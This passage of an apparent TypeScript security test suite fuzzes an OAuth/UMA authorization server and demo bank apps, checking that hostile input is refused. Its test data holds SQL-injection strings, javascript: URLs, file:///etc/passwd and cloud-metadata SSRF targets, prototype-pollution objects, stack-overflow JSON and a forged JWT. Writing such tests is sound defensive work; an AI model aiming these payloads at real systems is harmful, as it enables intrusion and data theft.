        const cases: Record<string, string | string[]>[] = [{}, { resource: '' }, { resource: ['acct:nat@x', 'acct:nat@y'] }, ...INJECTIONS.map((inj) => ({ resource: inj })), ...INJECTIONS.map((inj) => ({ resource: `acct:${inj}@${new URL(run.baseUrl).host}` }))];
        for (const q of cases) {
          const label = `webfinger ${JSON.stringify(q)}`;
          const res = await expectUnchangedBy(run, label, () => get(`/.well-known/webfinger${query(q)}`));
          expectOAuthError(label, res, res.status === 404 ? 404 : 400, res.status === 404 ? 'not_found' : 'invalid_request');
        }
      });

      it('metadata and JWKS ignore unknown and injected query parameters', async () => {
        for (const path of ['/.well-known/oauth-authorization-server/as', '/as/.well-known/uma2-configuration', '/as/jwks']) {
          const res = await get(`${path}${query({ foo: XSS, ['__proto__']: 'x', 'a[b]': "' OR 1=1 --" })}`);
          expect(res.status).toBe(200);
          expectNotRendered(path, res);
        }
      });
    });
  });

  // -------------------------------------------------------------------------------------------------------
  describe('UMA resource registration (/as/uma/resource_set)', () => {
    const auth = () => ({ authorization: `Bearer ${rs.pat}` });
    const valid = () => ({ resource_scopes: ['accounts:read'], name: 'Checking', endpoint: 'https://rs.example/accounts/1' });

    it('no token is 401 with a Bearer challenge and no error code (RFC 6750 §3.1); a malformed Authorization is 400 invalid_request', async () => {
      const none = await expectUnchangedBy(run, 'no token', () => json('/as/uma/resource_set', valid()));
      expectOAuthError('no token', none, 401, 'invalid_token');
      // Both schemes the endpoint takes (a FAPI 2.0 bank's PAT is DPoP-bound), neither with an error code.
      expect(none.headers['www-authenticate']).toBe('Bearer realm="steward", DPoP realm="steward", algs="ES256 PS256 EdDSA"');
      for (const authorization of ['Bearer', 'Bearer ', 'Bearer a b', `Bearer ${XSS}`, "Bearer ' OR 1=1 --", 'Basic abc', 'bearer', `Bearer ${rs.pat}\tx`]) {
        const label = `UMA Authorization: ${authorization}`;
        const res = await expectUnchangedBy(run, label, () => json('/as/uma/resource_set', valid(), { authorization }));
        expectOAuthError(label, res, res.status === 401 ? 401 : 400, res.status === 401 ? 'invalid_token' : 'invalid_request');
      }
    });

    it('malformed JSON, and JSON that is not an object, is 400 invalid_request and writes nothing', async () => {
      for (const body of ['{bad', '', 'null', '"x"', '42', '[]', JSON.stringify([valid()]), JSON.stringify([[valid()]]), '{"resource_scopes":["a"],"endpoint":"https://rs.example/a"}}']) {
        const label = `UMA POST ${body.slice(0, 60)}`;
        const res = await expectUnchangedBy(run, label, () => json('/as/uma/resource_set', body, auth()));
        expectOAuthError(label, res, 400, 'invalid_request');
      }
    });

    it('every field of the wrong type or out of bounds is 400 invalid_request, and nothing is written', async () => {
      const cases: Record<string, unknown>[] = [
        { ...valid(), resource_scopes: 'accounts:read' },
        { ...valid(), resource_scopes: [] },
        { ...valid(), resource_scopes: [42] },
        { ...valid(), resource_scopes: [null] },
        { ...valid(), resource_scopes: [{}] },
        { ...valid(), resource_scopes: ['has space'] },
        { ...valid(), resource_scopes: ['quote"d'] },
        { ...valid(), resource_scopes: Array.from({ length: 21 }, (_, i) => `s${i}`) },
        { ...valid(), resource_scopes: ['x'.repeat(65)] },
        { ...valid(), name: 42 },
        { ...valid(), name: 'x'.repeat(257) },
        { ...valid(), type: ['checking'] },
        { ...valid(), description: 'x'.repeat(1025) },
        { ...valid(), icon_uri: 'javascript:alert(1)' },
        { ...valid(), icon_uri: 42 },
        { ...valid(), endpoint: 42 },
        { ...valid(), endpoint: undefined },
        { ...valid(), endpoint: ['https://rs.example/a'] },
        { ...valid(), endpoint: 'https://rs.example/a?x=1' },
        { ...valid(), endpoint: 'https://rs.example/a#x' },
        { ...valid(), endpoint: 'https://rs.example.attacker.example/a' },
        { ...valid(), endpoint: 'https://attacker.example/a' },
        { ...valid(), endpoint: `https://rs.example/${'a'.repeat(2048)}` },
      ];
      for (const body of cases) {
        const label = `UMA POST ${JSON.stringify(body).slice(0, 120)}`;
        const res = await expectUnchangedBy(run, label, () => json('/as/uma/resource_set', body, auth()));
        expectOAuthError(label, res, 400, 'invalid_request');
      }
    });

    it('injection strings in scopes and endpoint are refused, and a PUT with bad input leaves the row as it was', async () => {
      const created = await json('/as/uma/resource_set', valid(), auth());
      expect(created.status).toBe(201);
      const id = created.json._id as string;
      for (const inj of INJECTIONS) {
        for (const body of [{ ...valid(), endpoint: inj }, { ...valid(), endpoint: `https://rs.example/${inj}?` }, { ...valid(), resource_scopes: [`${inj} x`] }]) {
          const label = `UMA ${JSON.stringify(body).slice(0, 120)}`;
          const post = await expectUnchangedBy(run, label, () => json('/as/uma/resource_set', body, auth()));
          expectOAuthError(`POST ${label}`, post, 400, 'invalid_request');
          const put = await expectUnchangedBy(run, label, () => send(run, { method: 'PUT', path: `/as/uma/resource_set/${id}`, headers: { 'content-type': JSON_TYPE, accept: JSON_TYPE, ...auth() }, body: JSON.stringify(body) }));
          expectOAuthError(`PUT ${label}`, put, 400, 'invalid_request');
        }
      }
    });

    it('a form-encoded description is refused like any non-JSON body (FedAuthz §3.2: a JSON document)', async () => {
      const body = formBody([['resource_scopes', 'accounts:read'], ['resource_scopes', 'transactions:read'], ['endpoint', 'https://rs.example/accounts/form']]);
      const res = await expectUnchangedBy(run, 'UMA form post', () => send(run, { method: 'POST', path: '/as/uma/resource_set', headers: { 'content-type': FORM, accept: JSON_TYPE, ...auth() }, body }));
      expectClean('UMA form post', res);
      expect([400, 415]).toContain(res.status);
      expect(res.json.error).toBe('invalid_request');
    });

    it('unknown fields are ignored: a valid description with extra ones is created', async () => {
      const res = await json('/as/uma/resource_set', { ...valid(), user_access_policy_uri: 'https://x.example', foo: { bar: 1 }, _id: 'chosen-by-client', constructor: { prototype: { polluted: 'yes' } } }, auth());
      expect(res.status).toBe(201);
      expect(res.json._id).not.toBe('chosen-by-client');
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });

    it('an unknown, injected or traversing id is 404 not_found for GET, PUT and DELETE; other methods are 405', async () => {
      for (const id of PATH_INJECTIONS) {
        for (const method of ['GET', 'PUT', 'DELETE']) {
          const label = `${method} /as/uma/resource_set/${id}`;
          const res = await expectUnchangedBy(run, label, () =>
            send(run, { method, path: `/as/uma/resource_set/${id}`, headers: { 'content-type': JSON_TYPE, accept: JSON_TYPE, ...auth() }, body: method === 'PUT' ? JSON.stringify(valid()) : undefined }),
          );
          expectClean(label, res);
          expect({ label, status: [400, 404].includes(res.status) ? '400 or 404' : res.status }).toEqual({ label, status: '400 or 404' });
          expect({ label, error: ['not_found', 'invalid_request'].includes(res.json.error) }).toEqual({ label, error: true });
        }
      }
      const patch = await send(run, { method: 'PATCH', path: '/as/uma/resource_set/x', headers: { accept: JSON_TYPE, ...auth() } });
      expectOAuthError('PATCH', patch, 405, 'unsupported_method_type');
    });
  });

  // -------------------------------------------------------------------------------------------------------
  describe('Intro (/as/intro)', () => {
    it('GET and POST without a token are 401 with a Bearer challenge that carries no error code (RFC 6750 §3.1)', async () => {
      for (const method of ['GET', 'POST']) {
        const res = await expectUnchangedBy(run, method, () => send(run, { method, path: '/as/intro', headers: { accept: JSON_TYPE } }));
        expectOAuthError(`${method} intro`, res, 401, 'invalid_token');
        expect(res.headers['www-authenticate']).toBe('Bearer realm="steward", DPoP realm="steward", algs="ES256 PS256 EdDSA"');
      }
    });

    it('a token in the query or in a form body is not accepted (RFC 9700 §2.4 / RFC 6750 §2.3), and nothing is logged', async () => {
      const inQuery = await expectUnchangedBy(run, 'query', () => get(`/as/intro?access_token=${tokens.access_token}`));
      expectOAuthError('token in query', inQuery, 401, 'invalid_token');
      const inBody = await expectUnchangedBy(run, 'form', () => form('/as/intro', { access_token: tokens.access_token as string }));
      expectOAuthError('token in body', inBody, 401, 'invalid_token');
    });

    it('malformed and injected Authorization values are 400 invalid_request or 401 invalid_token, and nothing is logged', async () => {
      for (const authorization of ['Bearer', 'Bearer  x', `Bearer ${tokens.access_token} ${tokens.access_token}`, 'Basic x', ...INJECTIONS.filter((s) => !/[\r\n\u0000\u0100-\uffff]/.test(s)).map((s) => `Bearer ${s}`), `Bearer ${'a'.repeat(8000)}`]) {
        const label = `intro Authorization: ${authorization.slice(0, 50)}`;
        const res = await expectUnchangedBy(run, label, () => get('/as/intro', { authorization }));
        expectOAuthError(label, res, res.status === 400 ? 400 : 401, res.status === 400 ? 'invalid_request' : 'invalid_token');
      }
    });

    it('a token without an account scope (a PAT) is 403 insufficient_scope, and nothing is logged', async () => {
      const res = await expectUnchangedBy(run, 'PAT at intro', () => get('/as/intro', { authorization: `Bearer ${rs.pat}` }));
      expectOAuthError('PAT at intro', res, 403, 'insufficient_scope');
    });

    it('a valid token with a malformed body is a 400 that logs no Intro call; unknown parameters are ignored', async () => {
      const res = await expectUnchangedBy(run, 'intro bad body', () =>
        send(run, { method: 'POST', path: '/as/intro', headers: { authorization: `Bearer ${tokens.access_token}`, 'content-type': JSON_TYPE, accept: JSON_TYPE }, body: '{bad' }),
      );
      expectOAuthError('intro bad body', res, 400, 'invalid_request');
      const ok = await get(`/as/intro${query({ foo: XSS, scope: 'uma_protection' })}`, { authorization: `Bearer ${tokens.access_token}` });
      expect(ok.status).toBe(200);
    });
  });

  // -------------------------------------------------------------------------------------------------------
  describe('Banks', () => {
    let bankCsrf: string;
    beforeAll(async () => {
      const page = await browser.get(`${run.baseUrl}/banks/astoria`);
      bankCsrf = csrfOn(page, '/banks/astoria/delegate');
    });
    const cookie = () => cookiesOf(browser, `${run.baseUrl}/banks/astoria/`);

    it('an unknown or injected bank id is 404 on every bank route — a page for a browser, JSON otherwise', async () => {
      const routes: [string, string][] = [
        ['GET', ''],
        ['POST', '/login'],
        ['POST', '/logout'],
        ['POST', '/delegate'],
        ['GET', '/callback?code=x&state=y'],
        ['POST', '/accounts/8879874/undelegate'],
      ];
      for (const bank of DECODABLE_PATH_INJECTIONS) {
        for (const [method, suffix] of routes) {
          const label = `${method} /banks/${bank}${suffix}`;
          const body = method === 'POST' ? formBody({ username: 'nat', password: 'x', issuer: `${run.baseUrl}/as`, _csrf: 'x' }) : undefined;
          const page = await expectUnchangedBy(run, label, () => send(run, { method, path: `/banks/${bank}${suffix}`, headers: { accept: HTML, 'content-type': FORM }, body }));
          expectErrorPage(label, page, 404);
          expect(page.text).not.toContain(XSS);
          const api = await send(run, { method, path: `/banks/${bank}${suffix}`, headers: { accept: JSON_TYPE, 'content-type': FORM }, body });
          expectOAuthError(label, api, 404, 'not_found');
        }
      }
    });

    it('FDX: an unknown bank or injected account id is refused with 401/404, never served or crashed', async () => {
      for (const id of PATH_INJECTIONS) {
        for (const bank of ['astoria', 'nobank', enc(XSS)]) {
          for (const suffix of ['', '/transactions']) {
            const label = `FDX /banks/${bank}/fdx/v6/accounts/${id}${suffix}`;
            const res = await expectUnchangedBy(run, label, () => get(`/banks/${bank}/fdx/v6/accounts/${id}${suffix}`, { authorization: `Bearer ${bankToken.token}` }));
            expectClean(label, res);
            expect({ label, status: [400, 401, 404].includes(res.status) ? 'refused' : res.status }).toEqual({ label, status: 'refused' });
            expect({ label, error: ['invalid_token', 'not_found', 'invalid_request'].includes(res.json.error) }).toEqual({ label, error: true });
          }
        }
      }
    });

    it('FDX transactions: malformed, repeated or injected query values are 400 invalid_request; unknown ones are ignored', async () => {
      const path = `${bankToken.endpoint}/transactions`;
      const auth = { authorization: `Bearer ${bankToken.token}` };
      const bad: [string, string][][] = [
        [['startTime', '2024-13-45']],
        [['startTime', 'yesterday']],
        [['endTime', '2024-01-01T25:00:00Z']],
        [['limit', '0']],
        [['limit', '501']],
        [['limit', '-1']],
        [['limit', 'abc']],
        [['limit', '1.5']],
        [['limit', '1e3']],
        [['offset', '-1']],
        [['offset', 'abc']],
        [['offset', '1234567890']],
        [['startTime', '2024-01-01'], ['startTime', '2024-02-01']],
        [['limit', '1'], ['limit', '2']],
        ...INJECTIONS.flatMap((inj) => [[['startTime', inj]], [['endTime', inj]], [['offset', inj]], [['limit', inj]]] as [string, string][][]),
      ];
      for (const q of bad) {
        const label = `transactions?${formBody(q)}`;
        const res = await expectUnchangedBy(run, label, () => get(`${path}${query(q)}`, auth));
        expectOAuthError(label, res, 400, 'invalid_request');
        expectNotRendered(label, res);
      }
      const ok = await get(`${path}${query({ limit: '2', foo: XSS, 'a[b]': 'c', ['__proto__']: 'x' })}`, auth);
      expect(ok.status).toBe(200);
    });

    it('sign-in: no or a wrong CSRF token is refused; missing, repeated or oversized fields are 400 pages', async () => {
      const path = '/banks/norma/login';
      const b = new Browser();
      const home = await b.get(`${run.baseUrl}/banks/norma`);
      const csrf = csrfOn(home, path);
      const c = cookiesOf(b, `${run.baseUrl}/banks/norma/`);
      const cases: [[string, string][], number][] = [
        [[['username', 'nat'], ['password', 'nat-demo']], 403],
        [[['username', 'nat'], ['password', 'nat-demo'], ['_csrf', 'wrong']], 403],
        [[['username', 'nat'], ['password', 'nat-demo'], ['_csrf', csrf], ['_csrf', csrf]], 403],
        [[['password', 'nat-demo'], ['_csrf', csrf]], 400],
        [[['username', 'nat'], ['_csrf', csrf]], 400],
        [[['username', 'nat'], ['username', 'nat'], ['password', 'nat-demo'], ['_csrf', csrf]], 400],
        [[['username', 'n'.repeat(65)], ['password', 'x'], ['_csrf', csrf]], 400],
        [[['username', 'nat'], ['password', 'x'.repeat(257)], ['_csrf', csrf]], 400],
      ];
      for (const [pairs, status] of cases) {
        const label = `bank login ${formBody(pairs).slice(0, 80)}`;
        const res = await expectUnchangedBy(run, label, () => send(run, { method: 'POST', path, headers: { accept: HTML, 'content-type': FORM, cookie: c }, body: formBody(pairs) }));
        expectErrorPage(label, res, status);
      }
    });

    it('sign-in: injection strings as username are just a wrong password — no sign-in, the same generic message', async () => {
      const b = new Browser();
      for (const inj of INJECTIONS.filter((s) => s.length <= 64)) {
        let page = await b.get(`${run.baseUrl}/banks/monami`);
        page = await b.submit(page, '/banks/monami/login', { username: inj, password: "' OR '1'='1" });
        expect({ inj, url: page.url, status: page.status }).toEqual({ inj, url: `${run.baseUrl}/banks/monami`, status: 200 });
        expect(page.html).toContain('Wrong username or password');
        expect(page.html).not.toContain(XSS);
        expect(forms(page).some((f) => f.action.endsWith('/banks/monami/login'))).toBe(true);
      }
    });

    it('delegate: an injected or unusable issuer is a 400 page, and nothing is registered anywhere', async () => {
      const issuers = [...INJECTIONS, 'javascript:alert(1)', 'file:///etc/passwd', 'http://169.254.169.254/latest/meta-data', 'https://user:pw@as.example', 'https://as.example/as?x=1', 'https://as.example/#x', 'acct:', 'acct:@', 'acct:nat@bad host', ''];
      for (const issuer of issuers) {
        const label = `delegate issuer=${JSON.stringify(issuer)}`;
        const res = await expectUnchangedBy(run, label, () =>
          send(run, { method: 'POST', path: '/banks/astoria/delegate', headers: { accept: HTML, 'content-type': FORM, cookie: cookie() }, body: formBody({ issuer, _csrf: bankCsrf }) }),
        );
        expectErrorPage(label, res, 400);
        expectNotRendered(label, res);
      }
      const repeated = await expectUnchangedBy(run, 'delegate issuer twice', () =>
        send(run, { method: 'POST', path: '/banks/astoria/delegate', headers: { accept: HTML, 'content-type': FORM, cookie: cookie() }, body: formBody({ issuer: [`${run.baseUrl}/as`, `${run.baseUrl}/as`], _csrf: bankCsrf }) }),
      );
      expectErrorPage('delegate issuer twice', repeated, 400);
    });

    it('callback: a forged or injected answer with no delegation in flight is a 400 page, and nothing is registered', async () => {
      const cases: Record<string, string | string[]>[] = [{}, { code: 'x', state: 'y' }, { code: ['a', 'b'], state: ['c', 'd'] }, { error: XSS, state: 'x' }, ...INJECTIONS.map((inj) => ({ code: inj, state: inj, iss: inj }))];
      for (const q of cases) {
        const label = `bank callback ${JSON.stringify(q).slice(0, 80)}`;
        const res = await expectUnchangedBy(run, label, () => get(`/banks/astoria/callback${query(q)}`, { accept: HTML, cookie: cookie() }));
        expectErrorPage(label, res, 400);
        expectNotRendered(label, res);
      }
    });

    it('undelegate: an injected account id is a 404 page and nothing changes', async () => {
      for (const id of DECODABLE_PATH_INJECTIONS) {
        const label = `undelegate ${id}`;
        const res = await expectUnchangedBy(run, label, () =>
          send(run, { method: 'POST', path: `/banks/astoria/accounts/${id}/undelegate`, headers: { accept: HTML, 'content-type': FORM, cookie: cookie() }, body: formBody({ _csrf: bankCsrf }) }),
        );
        expectErrorPage(label, res, 404);
        expectNotRendered(label, res);
      }
    });
  });

  // -------------------------------------------------------------------------------------------------------
  describe('Pages', () => {
    let asCsrf: string;
    const asCookie = () => cookiesOf(browser, `${run.baseUrl}/as/`);
    const post = (path: string, body: Record<string, string | string[]> | [string, string][], cookie = asCookie()) =>
      send(run, { method: 'POST', path, headers: { accept: HTML, 'content-type': FORM, cookie }, body: formBody(body) });

    beforeAll(async () => {
      const page = await browser.get(`${run.baseUrl}/as/account`);
      asCsrf = csrfOn(page, '/as/logout');
    });

    it('a browser asking for HTML gets a readable page, with the security headers, for each kind of error', async () => {
      const cases: [string, number][] = [
        ['/nowhere', 404],
        [`/${enc(XSS)}`, 404],
        ['/banks/nobank', 404],
        ['/as/consent/not-a-request', 400],
        ['/grapher/picture?months=7', 400],
        ['/as/authorize', 400],
      ];
      for (const [path, status] of cases) {
        const res = await get(path, { accept: HTML, cookie: asCookie() });
        expectErrorPage(path, res, status);
        expectSecurityHeaders(path, res);
        expectNotRendered(path, res);
      }
    });

    it('every form refuses a post without its CSRF token (400) or with a wrong one (403), and writes nothing', async () => {
      const targets = ['/as/login', '/as/logout', '/as/consent/x', '/as/account/grants/x/revoke', '/as/account/resources/x/remove', '/banks/astoria/login', '/banks/astoria/logout', '/banks/astoria/delegate', '/banks/astoria/accounts/8879874/undelegate', '/grapher/connect', '/grapher/disconnect'];
      for (const path of targets) {
        const cookie = `${asCookie()}; ${cookiesOf(browser, `${run.baseUrl}/banks/astoria/`)}`;
        const fields = { username: 'nat', password: 'nat-demo', decision: 'allow', issuer: `${run.baseUrl}/as` };
        for (const [csrf, status] of [[undefined, 400], ['wrong', 403], [['a', 'b'], 400], ['', 400]] as [string | string[] | undefined, number][]) {
          const label = `${path} with _csrf=${JSON.stringify(csrf)}`;
          const res = await expectUnchangedBy(run, label, () => post(path, csrf === undefined ? fields : { ...fields, _csrf: csrf }, cookie));
          expectErrorPage(label, res, status, 403);
        }
      }
    });

    it('AS sign-in: missing, repeated or oversized fields are 400 pages; injection strings are a generic wrong password', async () => {
      const b = new Browser();
      const page = await b.get(`${run.baseUrl}/as/login`);
      const csrf = csrfOn(page, '/as/login');
      const c = cookiesOf(b, `${run.baseUrl}/as/`);
      for (const pairs of [
        [['password', 'x'], ['_csrf', csrf]],
        [['username', 'nat'], ['_csrf', csrf]],
        [['username', 'nat'], ['username', 'nat'], ['password', 'x'], ['_csrf', csrf]],
        [['username', 'n'.repeat(65)], ['password', 'x'], ['_csrf', csrf]],
        [['username', 'nat'], ['password', 'x'], ['rid', 'r'.repeat(65)], ['_csrf', csrf]],
      ] as [string, string][][]) {
        const label = `AS login ${formBody(pairs).slice(0, 60)}`;
        expectErrorPage(label, await expectUnchangedBy(run, label, () => post('/as/login', pairs, c)), 400);
      }
      // A wrong password is something to keep (the message): from then on this browser has a session.
      await b.submit(page, '/as/login', { username: 'nat', password: 'wrong' });
      const withSession = cookiesOf(b, `${run.baseUrl}/as/`);
      for (const inj of INJECTIONS.filter((s) => s.length <= 64)) {
        const res = await post('/as/login', { username: inj, password: "' OR '1'='1", _csrf: csrf }, withSession);
        expect({ inj, status: res.status, location: res.headers.location }).toEqual({ inj, status: 303, location: `${run.baseUrl}/as/login` });
        expect(res.headers['set-cookie']).toBeUndefined(); // no new (signed-in) session id
      }
      const after = await b.get(`${run.baseUrl}/as/login`);
      expect(after.html).toContain('Wrong username or password');
      expect(after.html).not.toContain(XSS);
    });

    it('consent: a decision, window, duration or account that was not offered is a 400 page with no grant and no code; unknown fields are ignored', async () => {
      const p = pkce();
      const start = await browser.request('GET', authorizeUrl(run.baseUrl, client, { code_challenge: p.challenge, code_challenge_method: 'S256' }));
      const consentPath = new URL(start.headers.get('location') as string, run.baseUrl).pathname;
      const page = await browser.request('GET', `${run.baseUrl}${consentPath}`);
      const consent = forms(page).find((f) => f.action.includes('/as/consent/'))!;
      const fields = consent.fields;
      const cases: Record<string, string | string[]>[] = [
        { ...fields, decision: 'maybe' },
        { ...fields, decision: ['allow', 'deny'] },
        { ...fields, decision: 'allow', history_months: '7' },
        { ...fields, decision: 'allow', history_months: 'abc' },
        { ...fields, decision: 'allow', history_months: ['3', '24'] },
        { ...fields, decision: 'allow', duration: 'forever' },
        { ...fields, decision: 'allow', duration: ['once', 'until_revoked'] },
        { ...fields, decision: 'allow', resource: [] },
        ...INJECTIONS.map((inj) => ({ ...fields, decision: 'allow', resource: [inj] })),
        ...INJECTIONS.map((inj) => ({ ...fields, decision: inj })),
      ];
      for (const body of cases) {
        const label = `consent ${JSON.stringify(body).slice(0, 160)}`;
        const res = await expectUnchangedBy(run, label, () => post(consentPath, body));
        expectErrorPage(label, res, 400);
        expectNotRendered(label, res);
      }
      const ok = await post(consentPath, { ...fields, decision: 'allow', foo: 'bar', ['__proto__']: 'x', note: XSS });
      expect(ok.status).toBe(303);
      expect(new URL(String(ok.headers.location)).searchParams.get('code')).toEqual(expect.any(String));
    });

    it('dashboard forms: an injected or unknown grant or account id is a 404 page and nothing is revoked or removed', async () => {
      for (const id of DECODABLE_PATH_INJECTIONS) {
        for (const path of [`/as/account/grants/${id}/revoke`, `/as/account/resources/${id}/remove`]) {
          const res = await expectUnchangedBy(run, path, () => post(path, { _csrf: asCsrf }));
          expectErrorPage(path, res, 404);
          expectNotRendered(path, res);
        }
      }
    });

    it('an undecodable path parameter is a 400, never a crash', async () => {
      for (const path of ['/as/consent/%zz', '/banks/%E0%A4%A', '/as/account/grants/%zz/revoke', '/banks/astoria/accounts/%zz/undelegate', '/as/uma/resource_set/%E0%A4%A']) {
        const res = await expectUnchangedBy(run, path, () =>
          send(run, { method: path.endsWith('revoke') || path.endsWith('undelegate') ? 'POST' : 'GET', path, headers: { accept: JSON_TYPE, 'content-type': FORM, cookie: asCookie() }, body: formBody({ _csrf: asCsrf }) }),
        );
        expectOAuthError(path, res, 400, 'invalid_request');
      }
    });

    it('Grapher: an injected issuer, a forged callback or an unknown window is a 400 page, and nothing is written', async () => {
      const b = new Browser();
      const home = await b.get(`${run.baseUrl}/grapher`);
      const csrf = csrfOn(home, '/grapher/connect');
      const c = cookiesOf(b, `${run.baseUrl}/grapher/`);
      for (const issuer of [...INJECTIONS, 'javascript:alert(1)', 'http://169.254.169.254/', 'acct:nobody', '']) {
        const label = `grapher connect ${JSON.stringify(issuer)}`;
        const res = await expectUnchangedBy(run, label, () => post('/grapher/connect', { issuer, _csrf: csrf }, c));
        expectErrorPage(label, res, 400);
        expectNotRendered(label, res);
      }
      for (const q of [{}, { code: 'x', state: 'y', iss: `${run.baseUrl}/as` }, { error: XSS, state: XSS }, ...INJECTIONS.map((inj) => ({ code: inj, state: inj, iss: inj }))] as Record<string, string>[]) {
        const label = `grapher callback ${JSON.stringify(q).slice(0, 80)}`;
        const res = await expectUnchangedBy(run, label, () => get(`/grapher/callback${query(q)}`, { accept: HTML, cookie: c }));
        expectErrorPage(label, res, 400);
        expectNotRendered(label, res);
      }
      for (const months of ['7', 'abc', '-3', '1e1', ...INJECTIONS]) {
        const label = `picture months=${JSON.stringify(months)}`;
        expectErrorPage(label, await get(`/grapher/picture${query({ months })}`, { accept: HTML, cookie: c }), 400);
      }
      expectErrorPage('months twice', await get('/grapher/picture?months=3&months=12', { accept: HTML, cookie: c }), 400);
    });
  });

  // -------------------------------------------------------------------------------------------------------
  describe('Deep nesting and many values (refused before class-transformer runs)', () => {
    /** ~10,000 levels fit in the 64 kB limit: before the bound, the validation pipe overflowed the stack (500). */
    const deep = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;
    const manyKeys = () => JSON.stringify(Object.fromEntries(Array.from({ length: 6000 }, (_, i) => [`k${i}`, 0])));

    it('a deeply nested JSON body is 400 invalid_request at every JSON endpoint — with or without credentials — and writes nothing', async () => {
      const targets: [string, Record<string, string>][] = [
        ['/as/register', {}],
        ['/as/uma/resource_set', { authorization: `Bearer ${rs.pat}` }],
        ['/as/uma/resource_set', {}],
        ['/as/intro', { authorization: `Bearer ${tokens.access_token}` }],
        ['/banks/astoria/demo/outage', {}],
        ['/demo/api/reset', {}],
      ];
      for (const [path, headers] of targets) {
        for (const body of [`{"resource_scopes":${deep(10_000)}}`, `{"a":${deep(21)}}`, deep(5_000), manyKeys()]) {
          const label = `${path} ${body.slice(0, 40)}… (${body.length} bytes)`;
          const res = await expectUnchangedBy(run, label, () => json(path, body, headers));
          expectOAuthError(label, res, 400, 'invalid_request');
        }
      }
    });

    it('a browser gets a readable 400 page for a deeply nested body', async () => {
      const res = await send(run, { method: 'POST', path: '/as/register', headers: { 'content-type': JSON_TYPE, accept: HTML }, body: `{"redirect_uris":${deep(10_000)}}` });
      expectErrorPage('deep body, HTML', res, 400);
      expectSecurityHeaders('deep body, HTML', res);
    });

    it('many deep bodies at once are all refused, and the server keeps answering', async () => {
      const answers = await Promise.all(Array.from({ length: 30 }, () => json('/as/uma/resource_set', deep(10_000), { authorization: `Bearer ${rs.pat}` })));
      expect(answers.map((a) => a.status)).toEqual(answers.map(() => 400));
      expect((await get('/healthz')).status).toBe(200);
    });

    it('a body within the bounds (20 levels) still reaches validation', async () => {
      const nested = JSON.parse(`{"resource_scopes":["accounts:read"],"endpoint":"https://rs.example/accounts/nest","x":${deep(17)}}`) as unknown;
      const res = await json('/as/uma/resource_set', nested, { authorization: `Bearer ${rs.pat}` });
      expect(res.status).toBe(201);
    });
  });

  // -------------------------------------------------------------------------------------------------------
  describe('Concurrency against the sign-in throttle', () => {
    it('20 wrong passwords for one user sent at once: 5 are checked, 15 are 429 with Retry-After', async () => {
      const b = new Browser();
      const home = await b.get(`${run.baseUrl}/banks/lastish`);
      const csrf = csrfOn(home, '/banks/lastish/login');
      const cookie = cookiesOf(b, `${run.baseUrl}/banks/lastish/`);
      const body = formBody({ username: 'mallory', password: 'guess', _csrf: csrf });
      const answers = await Promise.all(
        Array.from({ length: 20 }, () => send(run, { method: 'POST', path: '/banks/lastish/login', headers: { accept: HTML, 'content-type': FORM, cookie }, body })),
      );
      const statuses = answers.map((a) => a.status).sort();
      expect(statuses).toEqual([...Array(5).fill(303), ...Array(15).fill(429)]);
      for (const a of answers.filter((x) => x.status === 429)) expect(Number(a.headers['retry-after'])).toBeGreaterThan(0);
    });
  });

  // -------------------------------------------------------------------------------------------------------
  describe('Slow bodies: a party that answers at once, then drips its body past every timeout', () => {
    it('a bank whose delegated AS drips its metadata refuses the token with 401 invalid_token, not 500', async () => {
      const delegations = run.db.source.getRepository(BankDelegationEntity);
      const accountId = decodeURIComponent(bankToken.endpoint.split('/').pop() as string);
      const before = await delegations.findOneByOrFail({ bankId: 'astoria', accountId });
      await delegations.update({ bankId: 'astoria', accountId }, { issuer: dripping.origin });
      try {
        const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
        const forged = jwt.sign({ iss: dripping.origin, aud: `${run.baseUrl}/banks/astoria`, scope: 'accounts:read', resource_id: before.resourceId }, privateKey, { algorithm: 'ES256', header: { alg: 'ES256', typ: 'at+jwt', kid: 'k1' }, expiresIn: 60 });
        const res = await get(bankToken.endpoint, { authorization: `Bearer ${forged}` });
        expectOAuthError('bank, AS metadata drips', res, 401, 'invalid_token');
      } finally {
        await delegations.update({ bankId: 'astoria', accountId }, { issuer: before.issuer });
      }
    }, 30_000);

    describe('at Grapher', () => {
      const b = new Browser();
      beforeAll(async () => {
        let page = await b.get(`${run.baseUrl}/grapher`);
        page = await b.submit(page, '/grapher/connect', { issuer: `${run.baseUrl}/as` });
        if (page.url.includes('/as/login')) page = await b.submit(page, '/as/login', { username: 'nat', password: 'nat-demo' });
        if (page.url.includes('/as/consent/')) page = await b.submit(page, '/as/consent/', {}, { name: 'decision', value: 'allow' });
        expect(page.url).toBe(`${run.baseUrl}/grapher/picture`);
      }, 60_000);

      it('Intro drips: the picture is a 502 page that names the authorization server, not a 500', async () => {
        const connections = run.db.source.getRepository(GrapherConnectionEntity);
        const [connection] = await connections.find();
        await connections.update({ id: connection.id }, { introEndpoint: `${dripping.origin}/as/intro` });
        try {
          const res = await get('/grapher/picture', { accept: HTML, cookie: cookiesOf(b, `${run.baseUrl}/grapher/`) });
          // 502 Bad Gateway names the upstream party; before the fix this was a 500 "unexpected condition".
          expect({ status: res.status, type: contentType(res), leak: STACK_TRACE.exec(res.text)?.[0] ?? null }).toEqual({ status: 502, type: 'text/html', leak: null });
          expect(res.text).toContain('Your authorization server did not answer');
          expect(res.text).toMatch(/no complete answer within \d+ ms/);
        } finally {
          await connections.update({ id: connection.id }, { introEndpoint: connection.introEndpoint });
        }
      }, 30_000);

      it('a bank drips: the picture names it "too slow", and the other accounts still draw', async () => {
        const resources = run.db.source.getRepository(ResourceEntity);
        const all = await resources.find();
        const astoria = all.filter((r) => r.endpoint.includes('/banks/astoria/'));
        for (const r of astoria) await resources.update({ id: r.id }, { endpoint: `${dripping.origin}/bank/account` });
        try {
          const res = await get('/grapher/picture', { accept: HTML, cookie: cookiesOf(b, `${run.baseUrl}/grapher/`) });
          expect(res.status).toBe(200);
          const failures = [...res.text.matchAll(/class="alert bank-failure" data-kind="(\w+)"[^>]*>([\s\S]*?)<\/p>/g)].map((m) => `${m[1]}: ${m[2].replace(/<[^>]+>/g, '')}`);
          const atAstoria = failures.filter((f) => f.includes('Astoria'));
          expect(atAstoria.length).toBeGreaterThan(0);
          for (const f of atAstoria) expect(f).toMatch(/^slow: .*Astoria.*too slow/);
        } finally {
          for (const r of astoria) await resources.update({ id: r.id }, { endpoint: r.endpoint });
        }
